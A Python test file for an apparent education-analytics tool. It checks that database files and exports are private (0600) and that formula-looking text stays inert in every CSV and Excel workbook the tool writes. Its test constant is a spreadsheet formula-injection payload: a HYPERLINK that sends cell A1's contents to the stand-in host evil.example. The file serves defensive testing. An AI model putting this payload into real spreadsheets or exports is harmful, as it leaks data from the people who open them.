"""Private files and inert cells (issue 11 §2): the database, its WAL, error workbooks and
exports are 0600; text that looks like a formula stays text in every workbook written."""

from __future__ import annotations

import io
import re
import stat
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from eduquality.analysis.exports import export_results
from eduquality.cli import main
from eduquality.ingest import ImportProblems, import_roster
from eduquality.ingest.problems import Problems, write_error_file
from eduquality.outputs import csv_safe, neutralise, write_csv
from eduquality.store import open_database
from eduquality.store.principals import Principal
from tests.ingest.conftest import roster_sheets, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _cells(path: Path | io.BytesIO) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_neutralise_rule():
    assert [neutralise(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [neutralise(v) for v in ("张三", "a=b", "", -1, 2.5, None)] == [
        "张三", "a=b", "", -1, 2.5, None]


@pytest.mark.slow
def test_database_and_wal_are_private(tmp_path):
    path = tmp_path / "d.duckdb"
    with open_database(path) as db, db.write() as con:
        con.execute("INSERT INTO district VALUES ('1', '五华区', '昆明市', '云南省')")
        assert _mode(path) == 0o600
        wal = Path(f"{path}.wal")
        if wal.exists():
            assert _mode(wal) == 0o600
    path.chmod(0o644)                       # a database made by an older release
    open_database(path).close()
    assert _mode(path) == 0o600


@pytest.mark.slow
def test_imported_formula_text_is_text_in_the_error_workbook(tmp_path):
    db = open_database(":memory:")
    import_roster(db, write_xlsx(tmp_path / "r.xlsx", roster_sheets()))
    students = roster_sheets()["学生"].head(2).copy()
    students.loc[1, "学校代码"] = EVIL                     # an unknown school, and a formula
    students.loc[0, "姓名"] = EVIL
    bad = tmp_path / "学生.csv"
    students.to_csv(bad, index=False)
    errors = tmp_path / "问题清单.xlsx"
    with pytest.raises(ImportProblems):
        import_roster(db, bad, errors=errors)
    cells = _cells(errors)
    assert EVIL in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
    assert _mode(errors) == 0o600


def test_error_csv_neutralised(tmp_path):
    p = Problems("x.csv")
    p.add("ingest.unknown_student", sheet="s", row=2, column="A", value=EVIL)
    out = write_error_file(p.items, tmp_path / "e.csv")
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8-sig")
    assert _mode(out) == 0o600


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_keeps_a_formula_looking_name_as_text(tmp_path, fmt):
    from tests.analysis.test_exports import _db

    db = _db()
    with db.write() as con:
        con.execute("UPDATE student SET name = ? WHERE student_id = 1", [EVIL])
    out = export_results(db, Principal("ops", "researcher"), "E1", tmp_path / f"r.{fmt}",
                         fmt=fmt).path
    assert _mode(out) == 0o600
    if fmt == "xlsx":
        cells = _cells(out)
        assert EVIL in [c.value for c in cells] and all(c.data_type != "f" for c in cells)
    else:
        assert "'" + EVIL.replace('"', '""') in out.read_text(encoding="utf-8-sig")


def test_csv_safe_leaves_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=x", "李"], "score": [-1.5, 2.0]})
    assert csv_safe(frame).to_dict("list") == {"name": ["'=x", "李"], "score": [-1.5, 2.0]}


# -- every CSV and workbook written goes through eduquality.outputs ---------------------------
SRC = Path(__file__).resolve().parents[1] / "src" / "eduquality"
CSV_WRITES = re.compile(r"\.to_csv\(|csv\.(?:Dict)?[Ww]riter\(")
BOOK_OPENS = re.compile(r"Workbook\(|ExcelWriter\(")
NOT_FILES_FOR_PEOPLE = {
    "outputs.py",  # write_csv itself
}
"""Modules allowed a CSV writer of their own. (The simulator's synthetic input files and the
PostgreSQL store's COPY stream are written by pyarrow's ``write_csv``, not matched here: the
first imitate a school's own export, the second is the database's data in transit.)"""


def test_every_csv_and_workbook_goes_through_outputs():
    """No module writes a CSV but through :func:`write_csv`, and none opens a workbook without
    :data:`XLSX_OPTIONS` (a new writer that forgets them fails here)."""
    for path in sorted(SRC.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        where = path.relative_to(SRC)
        if path.name not in NOT_FILES_FOR_PEOPLE:
            assert not CSV_WRITES.search(text), f"{where}: a CSV written without write_csv"
        for m in BOOK_OPENS.finditer(text):
            if text[:m.start()].rsplit("\n", 1)[-1].lstrip().startswith(("#", "def ", "class ")):
                continue
            call = text[m.start():m.start() + 160]
            assert "XLSX_OPTIONS" in call, f"{where}: a workbook opened without XLSX_OPTIONS"


def test_write_csv_neutralises_and_is_private(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "+1", "-1", "@A1", "李"], "score": [-1, 2, 3, 4, 5]})
    out = write_csv(frame, tmp_path / "x.csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")         # UTF-8 with BOM by default
    assert out.read_text(encoding="utf-8-sig").splitlines() == [
        "name,score", "'=1+1,-1", "'+1,2", "'-1,3", "'@A1,4", "李,5"]
    assert _mode(out) == 0o600
    plain = write_csv(frame, tmp_path / "y.csv", encoding="utf-8")
    assert plain.read_bytes().startswith(b"name,")


def _formula_cells(content: bytes) -> list[str]:
    """The formulas of a workbook, read from its XML (``<f>`` elements), and its text cells."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    return [f for s in sheets for f in re.findall(r"<f>(.*?)</f>", s)]


def test_growth_sgp_csv_neutralises_ids(tmp_path):
    """``eduquality growth sgp``: an id read from the scores file stays inert text."""
    rng = np.random.default_rng(3)
    prior = rng.normal(70, 10, 40).round()
    data = pd.DataFrame({"id": ["=1+1", "+2", "-3", "@4", *[f"S{i}" for i in range(36)]],
                         "now": (prior + rng.normal(5, 5, 40)).round(), "before": prior})
    data.to_csv(tmp_path / "in.csv", index=False)
    out = tmp_path / "sgp.csv"
    res = CliRunner().invoke(main, ["growth", "sgp", str(tmp_path / "in.csv"), "--id-col", "id",
                                    "--current", "now", "--prior", "before",
                                    "--out", str(out), "--min-n", "20"])
    assert res.exit_code == 0, res.output
    ids = [line.split(",")[0] for line in out.read_text(encoding="utf-8").splitlines()[1:5]]
    assert ids == ["'=1+1", "'+2", "'-3", "'@4"]


def _responses(tmp_path, names, group=None):
    rng = np.random.default_rng(5)
    theta = rng.normal(size=300)
    frame = pd.DataFrame({n: (rng.random(300) < 1 / (1 + np.exp(-(theta - b)))).astype(int)
                          for n, b in zip(names, np.linspace(-1, 1, len(names)), strict=True)})
    if group is not None:
        frame.insert(0, group, np.where(rng.random(300) < 0.5, "=F", "M"))
    path = tmp_path / "responses.csv"
    frame.to_csv(path, index=False)
    return path


EVIL_ITEMS = ["=A1", "+B", "-C", "@D", "E"]


def test_items_stats_csv_neutralises_item_labels(tmp_path):
    """``eduquality items``: item labels (the file's header) stay inert text."""
    out = tmp_path / "stats.csv"
    res = CliRunner().invoke(main, ["items", str(_responses(tmp_path, EVIL_ITEMS)),
                                    "--stats", str(out)])
    assert res.exit_code == 0, res.output
    assert pd.read_csv(out)["item"].tolist() == ["'=A1", "'+B", "'-C", "'@D", "E"]


def test_calibration_csvs_neutralise_item_labels_and_ids(tmp_path):
    """``irt fit`` (items and scores) and ``irt dif``: item labels and person ids inert."""
    from eduquality.analysis.calibration import fit_response_file
    from eduquality.analysis.dif import dif_response_file

    path = _responses(tmp_path, EVIL_ITEMS, group="=id")
    items, scores = tmp_path / "items.csv", tmp_path / "scores.csv"
    fit_response_file(path, "rasch", items, scores=scores, id_col="=id")
    assert pd.read_csv(items)["item"].tolist() == ["'=A1", "'+B", "'-C", "'@D", "E"]
    assert set(pd.read_csv(scores)["id"].astype(str)) == {"'=F", "M"}
    dif = tmp_path / "dif.csv"
    dif_response_file(_responses(tmp_path, EVIL_ITEMS, group="g"), "g", "=F", dif)
    assert pd.read_csv(dif)["item"].tolist() == ["'=A1", "'+B", "'-C", "'@D", "E"]


def test_report_workbook_keeps_formula_text_as_text():
    """:func:`xlsx_bytes` (reports, and every web page's download): a table's text stays a
    string, never a formula."""
    from eduquality.reports.excel import xlsx_bytes
    from eduquality.reports.model import Column, Report, Section, Table

    table = Table("名单", [Column("name", "姓名"), Column("n", "人数", "int")],
                  pd.DataFrame({"name": [EVIL, "+1", "-1", "@A1"], "n": [1, 2, 3, 4]}))
    report = Report(kind="page", lang="zh", title=EVIL, subtitle="", internal=True, meta=[],
                    sections=[Section("名单", [table])], methods=[])
    content = xlsx_bytes(report)
    assert _formula_cells(content) == []
    cells = _cells(io.BytesIO(content))
    assert {EVIL, "+1", "-1", "@A1"} <= {c.value for c in cells}
    assert all(c.data_type != "f" for c in cells)


def test_simulated_workbook_keeps_formula_text_as_text(tmp_path):
    from eduquality.simulate.writers import Column, Sheet, write_xlsx

    out = tmp_path / "s.xlsx"
    write_xlsx(out, [Sheet("名册", [Column("姓名", np.array([EVIL, "李"], dtype=object))])])
    assert _formula_cells(out.read_bytes()) == []
    assert EVIL in [c.value for c in _cells(out)]


@pytest.mark.slow
def test_web_download_keeps_a_formula_looking_name_as_text():
    """A class page's ``?format=xlsx``: a student named like a formula is a string there."""
    from eduquality.config import Settings
    from eduquality.web.app import create_app
    from tests.web.conftest import build_db, sign_in

    db = build_db()
    with db.write() as con:
        con.execute("UPDATE student SET name = ? WHERE student_id = 1", [EVIL])
    client = sign_in(create_app(db, Settings(), secret="s"), "res")
    r = client.get("/exams/E1/classes/S1-2021-8-1", params={"format": "xlsx"})
    assert r.status_code == 200
    assert _formula_cells(r.content) == []
    cells = _cells(io.BytesIO(r.content))
    assert EVIL in [c.value for c in cells] and all(c.data_type != "f" for c in cells)


def test_write_columns_writes_what_write_csv_writes(tmp_path):
    """The writer of the commands that do not load pandas (``items``, ``irt fit``, ``irt dif``)
    writes the bytes pandas' writer writes: formula-looking text neutralised, quotes, NaN and
    None blank, floats in their shortest form, integers, bools, Chinese text."""
    from eduquality.outputs import write_columns

    columns = {
        "item": ["=A1", "a,b", 'say "x"', "第1题", "-3", None],
        "x": [0.1 + 0.2, np.nan, 1e-05, 123456789012.0, -np.inf, 2.0],
        "n": np.array([1, 2, 3, 40, 0, -7], dtype=np.int64),
        "ok": [True, False, True, True, False, True],
        "f32": np.array([0.5, 1.25, np.nan, 3.0, 1e20, -0.0], dtype=float),
        "label": np.array(["A", "B", "C", "A", "B", "C"], dtype=object),
    }
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    for encoding in ("utf-8", "utf-8-sig"):
        write_columns(columns, ours, encoding=encoding)
        write_csv(pd.DataFrame(columns), theirs, encoding=encoding)
        assert ours.read_bytes() == theirs.read_bytes()
    assert stat.S_IMODE(ours.stat().st_mode) & 0o077 == 0
